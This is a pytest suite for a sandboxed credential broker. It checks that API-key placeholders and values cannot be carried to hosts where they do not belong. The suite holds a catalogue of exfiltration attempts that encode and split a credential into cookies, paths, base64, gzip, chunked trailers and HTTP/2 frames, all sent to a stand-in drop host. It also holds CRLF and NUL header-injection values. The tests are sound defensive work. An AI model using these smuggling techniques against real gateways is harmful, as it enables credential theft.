# SPDX-License-Identifier: Apache-2.0
"""Attacks on credentials over the network: placeholders carried away, values tempted out to a place where they do not belong (ATTACKS 57, 58, 59, 65, 69)."""

import json
import secrets

import pytest

import secret_echo
import secret_tools
import servers
from attack_tools import CLIENT, DIRECT, inside
from inside import Inside, until

REAL = "real-value-" + secrets.token_hex(16)
ECHO, TWO = "11.0.0.34", "11.0.0.35"
WRONG = ["self-signed", "other-name", "expired", "unknown-ca"]
PORTS = {name: 9440 + i for i, name in enumerate(WRONG)}
KEY = {"hosts": ["echo.example.com", "echo2.example.com", *(f"{name}.example.com:{port}" for name, port in PORTS.items())], "header": "x-api-key",
       "env": ["API_KEY"], "store": "command", "command": ["printf", "%s", REAL]}
NAMES = {**{f"{name}.example.com": [ECHO] for name in ("echo", "drop", *WRONG)}, "echo2.example.com": [TWO], "drop2.example.com": [TWO]}
ALLOW = ["echo.example.com", "drop.example.com", "echo2.example.com", "drop2.example.com"]
MISPLACED = "BAWN_NET_SECRET_MISPLACED"


@pytest.fixture(scope="module")
def server(inter_net):
    inter_net.certificate("echo", "echo-key", f"DNS:*.example.com,IP:{ECHO}")
    tls = f"{inter_net.folder}/echo.pem:{inter_net.folder}/echo-key.pem"
    folder = servers.fresh(inter_net, "wrong-certificates")
    wrong = [f"{ECHO}:{PORTS[name]}:{folder}/{name}.pem:{folder}/{name}.key" for name in servers.wrong_certificates(inter_net, folder)]
    s = secret_echo.Server(inter_net, f"{ECHO}:443:{tls}", f"{ECHO}:80", f"{ECHO}:8443:{tls}", f"{TWO}:443:{tls}:h2", *wrong, name="echo-attacks")
    yield s
    s.end()
    servers.shutil.rmtree(folder)


@pytest.fixture
def echo(net, server):
    server.forget()
    net.names.update(NAMES)
    net.save_names()
    secret_tools.define(net, "key", **KEY)
    return server


def with_value(echo):
    return [seen for seen in echo.seen() if REAL in seen["text"]]


def misplaced(net):
    return [(e["host"], e["secret"]) for e in net.log() if e["code"] == MISPLACED for _ in range(e.get("count", 1))]


# 57: placeholders that are carried away

CARRIER = CLIENT + r'''
import base64, gzip, zlib, random, string

def made_like(text):
    """Another one of its shape, which stands for nothing."""
    return "".join(random.choice(string.ascii_letters) if c.isalpha() else random.choice(string.digits) if c.isdigit() else c for c in text)

def request(*fields, path="/", method="POST", body=None, host):
    body = body.encode() if isinstance(body, str) else body
    fields = [*fields, *(["Content-Length: %d" % len(body)] if body is not None and "Transfer-Encoding: chunked" not in fields else [])]
    return "\r\n".join(["%s %s HTTP/1.1" % (method, path), "Host: " + host, "Connection: close", *fields, "", ""]).encode() + (body or b"")

def chunks(data, size, end=b""):
    return b"".join(b"%x\r\n%s\r\n" % (len(data[i:i + size]), data[i:i + size]) for i in range(0, len(data), size)) + b"0\r\n" + end + b"\r\n"

def percent(s, every=1):
    return "".join("%%%02X" % ord(c) if i % every == 0 else c for i, c in enumerate(s))

def ways_in_wrong_places(p, host):
    half = len(p) // 2
    two = gzip.compress(b"x" * 100 + p[:half].encode()) + gzip.compress(p[half:].encode())
    form = "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"f\"\r\n\r\n%s\r\n--b--\r\n" % p
    return {
        "cookie": request("Cookie: a=b; session=" + p, host=host),
        "another header": request("X-Data: " + p, host=host),
        "the name of a header": request("X-%s: 1" % p, host=host),
        "over two headers": request("X-A: " + p[:half], "X-B: " + p[half:], host=host),
        "base64 in a header": request("X-Data: " + base64.b64encode(("me:" + p).encode()).decode(), host=host),
        "path": request(path="/a/%s/b" % p, host=host),
        "path, encoded": request(path="/" + percent(p), host=host),
        "query": request(path="/?q=" + p, host=host),
        "query, encoded": request(path="/?q=" + percent(p, 2), host=host),
        "name in the query": request(path="/?%s=1" % p, host=host),
        "body": request(body="token=" + p, host=host),
        "json": request("Content-Type: application/json", body=json.dumps({"token": p}), host=host),
        "multipart": request("Content-Type: multipart/form-data; boundary=b", body=form, host=host),
        **{"base64 at %d" % n: request(body=base64.b64encode(b"x" * n + p.encode() + b"yz"), host=host) for n in range(3)},
        "base64url": request(body=base64.urlsafe_b64encode(p.encode()), host=host),
        "hex": request(body=p.encode().hex(), host=host),
        "HEX": request(body=p.encode().hex().upper(), host=host),
        "percent": request(body="token=" + percent(p), host=host),
        "reversed": request(body=p[::-1], host=host),
        "chunk by chunk": request("Transfer-Encoding: chunked", body=chunks(b"token=" + p.encode(), 1), host=host),
        "trailer": request("Transfer-Encoding: chunked", body=chunks(b"x", 1, b"X-End: %s\r\n" % p.encode()), host=host),
        "gzip": request("Content-Encoding: gzip", body=gzip.compress(b"x" * 1000 + p.encode()), host=host),
        "two parts of gzip": request("Content-Encoding: gzip", body=two, host=host),
        "deflate": request("Content-Encoding: deflate", body=zlib.compress(p.encode()), host=host),
        "after much": request(body="x" * 300000 + p, host=host),
        "websocket": request("Upgrade: websocket", "Sec-WebSocket-Key: x", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Protocol: " + p, method="GET",
                             path="/websocket/raw", host=host).replace(b"Connection: close", b"Connection: Upgrade"),
    }

def ways(p):
    at_home = {"at home: " + name: data for name, data in ways_in_wrong_places(p, "echo.example.com").items()}
    return {**ways_in_wrong_places(p, "drop.example.com"), **at_home,
            "its own header": request("x-api-key: " + p, host="drop.example.com"),
            "authorization": request("Authorization: Bearer " + p, host="drop.example.com"),
            "basic": request("Authorization: Basic " + base64.b64encode(("me:" + p).encode()).decode(), host="drop.example.com")}

@refusable
def send(data):
    host = data.split(b"Host: ")[1].split(b"\r\n")[0].decode()
    s = lax().wrap_socket(socket.create_connection((host, 443)), server_hostname=host)
    try:
        s.sendall(data)
    except OSError:
        pass  # refused before the end: the answer is there
    return s.recv(65536) if b"Upgrade" in data else rest(s)

def h2_ways(p):
    fields = {"h2 header": [("x-data", p)], "h2 key": [("x-api-key", p)], "h2 cookies": [("cookie", "a=" + p[:20]), ("cookie", "b=" + p)]}
    return {**{name: (more, "/", b"") for name, more in fields.items()}, "h2 path": ([], "/" + p, b""), "h2 body": ([], "/", b"x=" + p.encode())}

@refusable
def h2_send(way, host="drop2.example.com"):
    import h2.config, h2.connection, h2.events
    fields, path, body = way
    context = lax()
    context.set_alpn_protocols(["h2"])
    s = context.wrap_socket(socket.create_connection((host, 443)), server_hostname=host)
    c = h2.connection.H2Connection(h2.config.H2Configuration(header_encoding="latin-1"))
    c.initiate_connection()
    c.send_headers(1, [(":method", "POST"), (":scheme", "https"), (":authority", host), (":path", path), *fields])
    for i in range(len(body)):
        c.send_data(1, body[i:i + 1])
    c.end_stream(1)
    s.sendall(c.data_to_send())
    while (data := s.recv(65536)):
        for e in c.receive_data(data):
            if isinstance(e, h2.events.ResponseReceived):
                return b"HTTP/2 " + dict(e.headers)[":status"].encode()
            if isinstance(e, h2.events.StreamReset):
                return b"reset"
    return b""

def code(answer):
    return answer.split(b" ")[1].decode() if answer.startswith(b"HTTP/") else answer[:60].decode("latin-1")

def both(p):
    return {**{name: code(send(data)) for name, data in ways(p).items()}, **{name: code(h2_send(way)) for name, way in h2_ways(p).items()}}
'''


def test_placeholders_carried_away(net, echo):
    """Claim: a placeholder in any place but its own, plain, encoded, packed or in pieces, ends the request; it is logged and named at the end (57)."""
    r = net.sandbox(*DIRECT, "/usr/bin/python3", net.runner.write("carry.py", CARRIER + """
p = os.environ["API_KEY"]
print(json.dumps({"p": p, "found": both(p), "control": both(made_like(p))}))
"""), allow=ALLOW, options=["--json"])
    assert r.rc == 0, r
    found, control, p = (r.json()[k] for k in ("found", "control", "p"))
    assert {name: got for name, got in control.items() if got not in ("200", "101")} == {}, "refused for another reason"
    assert {name: got for name, got in found.items() if got != "403"} == {}
    arrived = [seen for seen in echo.seen() if not seen.get("cut")]
    assert len(arrived) == len(control), [a["text"][:60] for a in arrived]
    for seen in echo.seen():  # of one that was cut the beginning may have gone out, but never all of it
        secret_tools.nowhere(p[-24:], seen["text"].encode("latin-1"))
    log = misplaced(net)
    assert len(log) == len(found) and {secret for _, secret in log} == {"key"}
    report = json.loads(next(line for line in r.err.splitlines() if line.startswith(b"{")))["network"]["secrets"]
    blocked = {s["host"]: s["blocked"] for s in report if s["blocked"]}
    assert blocked == {host: sum(h == host for h, _ in log) for host in ("drop.example.com", "echo.example.com", "drop2.example.com")}
    shown = net.bawn("policy", "log", "--json")
    assert sum(json.loads(line).get("count", 1) for line in shown.out.splitlines() if MISPLACED.encode() in line) == len(log), shown
    secret_tools.nowhere(REAL, r.out + r.err + shown.out + json.dumps(net.log()).encode())


def test_one_value_is_not_two(net, echo):
    """Claim: the placeholder of one credential in the place of another is refused; each goes to its own hosts only (57)."""
    secret_tools.define(net, "other", **{**KEY, "hosts": ["drop.example.com"], "env": ["OTHER_KEY"], "command": ["printf", "%s", REAL[::-1]]})
    r = net.sandbox("sh", "-c", """
        for pair in "echo $API_KEY" "drop $OTHER_KEY" "echo $OTHER_KEY" "drop $API_KEY"; do
            set -- $pair; curl -sk --noproxy '*' -o /dev/null -w '%{http_code} ' -H "x-api-key: $2" https://$1.example.com/
        done""", allow=ALLOW)
    assert r.out == b"200 200 403 403 ", r
    assert [REAL in seen["text"] for seen in echo.seen()] == [True, False] and REAL[::-1] in echo.seen()[1]["text"]
    assert sorted(misplaced(net)) == [("drop.example.com", "key"), ("echo.example.com", "other")]


# 59, N8: values tempted out

def test_only_over_tls(net, echo):
    """Claim: plain http gets no value and no placeholder, on port 80, through the proxy port, and on 443 (59)."""
    found = inside(net, """
import os
key = b"x-api-key: " + os.environ["API_KEY"].encode() + b"\\r\\n"
plain = get(b"echo.example.com")
uri = plain.replace(b"GET /", b"GET http://echo.example.com/")
shown({"bare": talk(socket.create_connection(("echo.example.com", 80)), plain),
       "key": talk(socket.create_connection(("echo.example.com", 80)), plain[:-2] + key + b"\\r\\n"),
       "proxy, bare": talk(socket.create_connection(PROXY), uri),
       "proxy, key": talk(socket.create_connection(PROXY), uri[:-2] + key + b"\\r\\n"),
       "on 443": refusable(lambda: talk(socket.create_connection(("echo.example.com", 443)), plain))(),
       "proxy on 443": refusable(lambda: talk(socket.create_connection(PROXY), uri.replace(b"com/", b"com:443/")))(),
       "in a tunnel": refusable(lambda: talk(open_connect(b"echo.example.com", 443), plain))()})
""", allow=ALLOW)
    codes = {name: text.split(" ")[1] if text.startswith("HTTP/") else text for name, text in found.items()}
    assert codes["bare"] == codes["proxy, bare"] == "200" and codes["key"] == codes["proxy, key"] == "403", found
    assert "200" not in (codes["on 443"], codes["proxy on 443"], codes["in a tunnel"]), found
    assert len(echo.seen()) == 2 and all(REAL not in seen["text"] and "x-api-key" not in seen["text"] for seen in echo.seen())
    assert misplaced(net) == [("echo.example.com", "key")] * 2


NAMED = """
import os
key = b"x-api-key: " + os.environ["API_KEY"].encode() + b"\\r\\n"
@refusable
def ask(open_, sni, host, more=b""):
    s = open_()
    return s if isinstance(s, bytes) else talk(lax().wrap_socket(s, server_hostname=sni), get(host)[:-2] + more + b"\\r\\n")
def to(name, port=443):
    return lambda: socket.create_connection((name, port))
"""


def test_no_other_name_or_port_gets_it(net, echo):
    """Claim: a value goes only where lookup, connection, SNI and Host are the credential's host, on its port (N8, 47, 48, 52)."""
    found = inside(net, NAMED + """
shown({"right": ask(to("echo.example.com"), "echo.example.com", b"echo.example.com"),
       "case": ask(to("ECHO.example.com"), "ECHO.EXAMPLE.COM", b"Echo.Example.Com"),
       "dot": ask(to("echo.example.com."), "echo.example.com", b"echo.example.com."),
       "connect": ask(lambda: open_connect(b"echo.example.com", 443), "echo.example.com", b"echo.example.com"),
       "socks": ask(lambda: open_socks(b"echo.example.com", 443), "echo.example.com", b"echo.example.com"),
       "port": ask(to("echo.example.com", 8443), "echo.example.com", b"echo.example.com:8443"),
       "address": ask(to("11.0.0.34"), None, b"11.0.0.34"),
       "address, key": ask(to("11.0.0.34"), None, b"11.0.0.34", key),
       "address, host": ask(to("11.0.0.34"), None, b"echo.example.com"),
       "address, sni": ask(to("11.0.0.34"), "echo.example.com", b"echo.example.com"),
       "socks address": ask(lambda: open_socks(socket.inet_aton("11.0.0.34"), 443, 1), "echo.example.com", b"echo.example.com"),
       "another name": ask(to("drop.example.com"), "echo.example.com", b"echo.example.com"),
       "another sni": ask(to("echo.example.com"), "drop.example.com", b"echo.example.com"),
       "no sni": ask(to("echo.example.com"), None, b"drop.example.com"),
       "another host": ask(to("echo.example.com"), "echo.example.com", b"drop.example.com"),
       "host of another": ask(to("drop.example.com"), "drop.example.com", b"echo.example.com"),
       "connect, another sni": ask(lambda: open_connect(b"drop.example.com", 443), "echo.example.com", b"echo.example.com"),
       "socks, another host": ask(lambda: open_socks(b"drop.example.com", 443), "drop.example.com", b"echo.example.com")})
""", allow=[*ALLOW, "11.0.0.34"])
    codes = {name: text.split(" ")[1] if text.startswith("HTTP/") else "refused" for name, text in found.items()}
    right = ["right", "case", "dot", "connect", "socks"]
    assert {codes[name] for name in right} == {"200"}, found
    bare = ["port", "address"]
    assert {codes[name] for name in bare} == {"200"} and codes["address, key"] == "403", found
    assert {name for name, code in codes.items() if code == "200"} == {*right, *bare}, found
    assert len(with_value(echo)) == len(right) and len(echo.seen()) == len(right) + len(bare)
    assert {seen["port"] for seen in with_value(echo)} == {443}
    assert {line for seen in with_value(echo) for line in seen["text"].split("\r\n") if line.startswith("Host")} == {"Host: echo.example.com"}


def test_certificates(net, echo):
    """Claim: a host whose certificate is not trusted gets no value, though the client itself would not mind (69)."""
    command = ["sh", "-c", "; ".join(f"curl -sk --noproxy '*' -o /dev/null -H \"x-api-key: $API_KEY\" -w '%{{http_code}} ' https://{name}.example.com:{port}/"
                                     for name, port in [*PORTS.items(), ("echo", 443)])]
    assert net.outside(*command, env={"API_KEY": REAL}).out == b"200 200 200 200 200 ", "a client that does not look reaches them"
    assert len(with_value(echo)) == 5
    echo.forget()
    r = net.sandbox(*command, allow=[*ALLOW, *(f"{name}.example.com:{port}" for name, port in PORTS.items())])
    assert r.out == b"502 502 502 502 200 ", r
    assert [seen["port"] for seen in echo.seen()] == [443] and len(with_value(echo)) == 1


def test_header_is_replaced(net, echo):
    """Claim: however often and in whatever spelling the client sets the header, the server gets one, with the value (59)."""
    found = inside(net, """
def ask(*fields, host="echo.example.com"):
    text = "\\r\\n".join(["GET / HTTP/1.1", "Host: " + host, "Connection: close", *fields, "", ""]).encode("latin-1")
    return talk(lax().wrap_socket(socket.create_connection((host, 443)), server_hostname=host), text)
import os
p = os.environ["API_KEY"]
shown({"none": ask(), "mine": ask("X-API-Key: mine"), "three": ask("x-api-key: a", "X-Api-Key: " + p, "X-API-KEY:b"), "tab": ask("x-api-key:\\t" + p + "\\t"),
       "hop": ask("Connection: x-api-key"), "space": ask("x-api-key : mine"), "fold": ask("x-api-key: a", " b")})
""", allow=ALLOW)
    assert [found[name][9:12] for name in ("none", "mine", "three", "tab", "hop")] == ["200"] * 5, found
    assert found["space"].startswith("HTTP/1.1 400 ") and found["fold"].startswith("HTTP/1.1 400 "), found
    keys = [[line for line in seen["text"].split("\r\n") if line.lower().startswith("x-api-key")] for seen in echo.seen()]
    assert keys == [[f"x-api-key: {REAL}"]] * 5


@pytest.mark.parametrize("value", [r"real-value\r\nX-Evil: 1", r"real-value\nX-Evil: 1", r"real-value\0more-of-it", r"short", r"", r"real-value\033[31m"],
                         ids=["crlf", "lf", "nul", "short", "empty", "escape"])
def test_values_that_no_request_may_have(net, echo, value):
    """Claim: a value with a line break, NUL or control byte goes nowhere, and is not shown in the error (59, CWE-113)."""
    secret_tools.define(net, "key", **{**KEY, "command": ["printf", value]})
    r = net.sandbox("curl", "-sk", "--noproxy", "*", "-w", "%{http_code}", "https://echo.example.com/", allow=ALLOW)
    assert r.out.endswith(b"502") and b"BAWN_NET_SECRET_UNAVAILABLE" in r.out, r
    assert echo.seen() == [] and b"real-value" not in r.out + r.err + json.dumps(net.log()).encode(), r


# 58, rules

def fetch(net, *names, options=(), allow=()):
    r = net.sandbox("sh", "-c", "; ".join(f"curl -sk --noproxy '*' -w '\\ncode=%{{http_code}}\\n' https://{name}/" for name in names), options=options,
                    allow=allow)
    return [line.removeprefix("code=") for line in r.out.decode("latin-1").splitlines() if line.startswith("code=")], r


def test_host_that_may_not_be_looked_into(net, echo):
    """Claim: a credential never makes an opaque connection: its host with "inspect": false is refused, and the others of that rule are not (58)."""
    net.rules({"action": "allow", "host": ["echo.example.com", "drop.example.com"], "inspect": False})
    codes, r = fetch(net, "echo.example.com", "drop.example.com")
    assert codes[-1] == "200" and [seen["text"].split("\r\n")[1] for seen in echo.seen()] == ["Host: drop.example.com"], r
    assert "BAWN_NET_CANNOT_LOOK" in {e["code"] for e in net.log() if e["host"] == "echo.example.com"}
    assert with_value(echo) == []
    echo.forget()
    codes, r = fetch(net, "echo.example.com", options=["--no-secrets"])
    assert codes == ["200"], r  # it was the credential


def test_secret_that_comes_while_a_sandbox_runs(net, echo):
    """Claim: what a sandbox was not started with it never gets; its connections are as they were (58)."""
    path = net.runner.home / ".config/bawn/secrets.json"
    path.unlink()
    with Inside(net, allow=ALLOW) as running:
        look = "import ssl; ssl._create_default_https_context = ssl._create_unverified_context; get('https://echo.example.com/')"
        assert running(look) == 200
        secret_tools.define(net, "key", **KEY)
        net.rules({"action": "allow", "host": "echo.example.com", "methods": ["GET"]})  # a reload
        assert running(look) == 200
        assert with_value(echo) == []
        codes, r = fetch(net, "echo.example.com", allow=ALLOW)
        assert codes == ["200"] and len(with_value(echo)) == 1, r


def test_reload(net, echo):
    """Claim: rules that come and go while a sandbox runs hold for its credentials at once, on open connections, too (58, 67)."""
    rule = {"id": "r", "action": "allow", "host": "echo.example.com"}
    net.rules(rule)
    with Inside(net) as running:
        running("import http.client\ndef one(path='/'):\n  c.request('GET', path); r = c.getresponse(); r.read(); return r.status\n"
                "def fresh():\n  global c\n  c = http.client.HTTPSConnection('echo.example.com'); return one()")
        assert running("fresh()") == 200 and len(with_value(echo)) == 1
        net.rules({**rule, "paths": ["/public/**"]})
        until(lambda: running("fresh()") == 403)
        sent = len(with_value(echo))
        assert running("one('/public/x')") == 200 and len(with_value(echo)) == sent + 1
        net.rules({**rule, "inspect": False})
        until(lambda: running("fresh()") not in (200, 403))
        sent = len(echo.seen())
        assert running("fresh()") not in (200, 403) and len(echo.seen()) == sent
        net.rules({**rule, "action": "deny"})
        until(lambda: "BAWN_NET_DENIED_HOST" in {e["code"] for e in net.log()} or running("fresh()") == 0)
        net.rules(rule)
        until(lambda: running("fresh()") == 200)
        assert REAL in echo.seen()[-1]["text"]
    assert all(REAL in seen["text"] for seen in echo.seen())


def test_rules_win(net, echo):
    """Claim: a credential is no permission: deny, no rule, method and path win; the broker judges the same (DESIGN: the broker checks policy itself)."""
    net.rules({"action": "allow", "host": "drop.example.com"})
    assert fetch(net, "echo.example.com", "drop.example.com")[0] == ["403", "200"]
    net.rules({"action": "deny", "host": "echo.example.com"}, {"action": "allow", "host": "*.example.com"})
    assert fetch(net, "echo.example.com", "drop.example.com")[0] == ["403", "200"]
    net.rules({"action": "allow", "host": "echo.example.com", "methods": ["POST"]})
    assert fetch(net, "echo.example.com")[0] == ["403"]
    assert {seen["text"].split("\r\n")[1] for seen in echo.seen()} == {"Host: drop.example.com"} and with_value(echo) == []


def test_organisation_wins(net, echo, floor):
    """Claim: what the organisation denies gets no credential, whatever the user's and the session's rules say (13)."""
    floor({"id": "org", "action": "deny", "host": "echo.example.com"})
    net.rules({"action": "allow", "host": "echo.example.com"})
    assert fetch(net, "echo.example.com", "drop.example.com", allow=ALLOW)[0] == ["403", "200"]
    floor({"id": "org", "action": "deny", "host": "echo.example.com", "paths": ["/private/**"]})
    assert fetch(net, "echo.example.com/private/x", "echo.example.com", allow=ALLOW)[0] == ["403", "200"]
    assert [seen["text"].split(" ")[1] for seen in with_value(echo)] == ["/"]


def test_asked_once(net, echo):
    """Claim: a host that a human lets through once gets the request with no value: it is refused and says why."""
    script = net.runner.write(net.runner.home / "hook", "#!/bin/sh\necho once\n", 0o755)
    config = secret_tools.config_folder(net.runner) / "config.json"
    net.runner.write(config, json.dumps({"sandbox": {"askHook": str(script)}}), 0o600)
    codes, r = fetch(net, "echo.example.com", "drop.example.com")
    assert codes == ["502", "200"], r
    assert b"It is only sent with requests that a rule allows without asking" in r.out, r
    assert with_value(echo) == []


def test_project_without_trust_gets_no_more(net, echo):
    """Claim: a project's file leaves credentials out, but brings none back, trusted or not (6)."""
    secret_tools.define(net, "other", **{**KEY, "hosts": ["drop.example.com"], "env": ["OTHER_KEY"]})
    config = secret_tools.config_folder(net.runner) / "config.json"
    net.runner.write(config, json.dumps({"sandbox": {"secrets": ["key"]}}), 0o600)
    net.runner.write(".bawn/config.json", json.dumps({"sandbox": {"secrets": ["key", "other"]}}))
    for _ in range(2):
        echo.forget()
        r = net.sandbox("sh", "-c", 'echo "[$OTHER_KEY]"; curl -sk --noproxy "*" -o /dev/null https://drop.example.com/ https://echo.example.com/', allow=ALLOW)
        assert r.out.startswith(b"[]\n"), r
        assert [seen["text"].split("\r\n")[1] for seen in with_value(echo)] == ["Host: echo.example.com"]
        assert net.bawn("trust", "--yes").rc == 0
    net.runner.write(".bawn/config.json", json.dumps({"sandbox": {"secrets": "none"}}))
    echo.forget()
    codes, r = fetch(net, "echo.example.com", allow=ALLOW)
    assert codes == ["200"] and with_value(echo) == [], r


def test_another_sandbox(net, echo):
    """Claim: a sandbox without credentials has nothing of one that runs beside it; its gate is another one (65)."""
    look = "import ssl; ssl._create_default_https_context = ssl._create_unverified_context; get('https://echo.example.com/')"
    with Inside(net, allow=ALLOW) as rich, Inside(net, allow=ALLOW, options=["--no-secrets"]) as poor:
        assert rich(look) == 200 and len(with_value(echo)) == 1
        p = rich("os.environ['API_KEY']")
        assert poor(f"{look.partition('get(')[0]} get('https://echo.example.com/', x_api_key={p!r})") == 200
        assert len(with_value(echo)) == 1 and f"x-api-key: {p}" in echo.seen()[-1]["text"]
        assert poor("os.path.exists('/run/bawn/credentials.sock')") is False
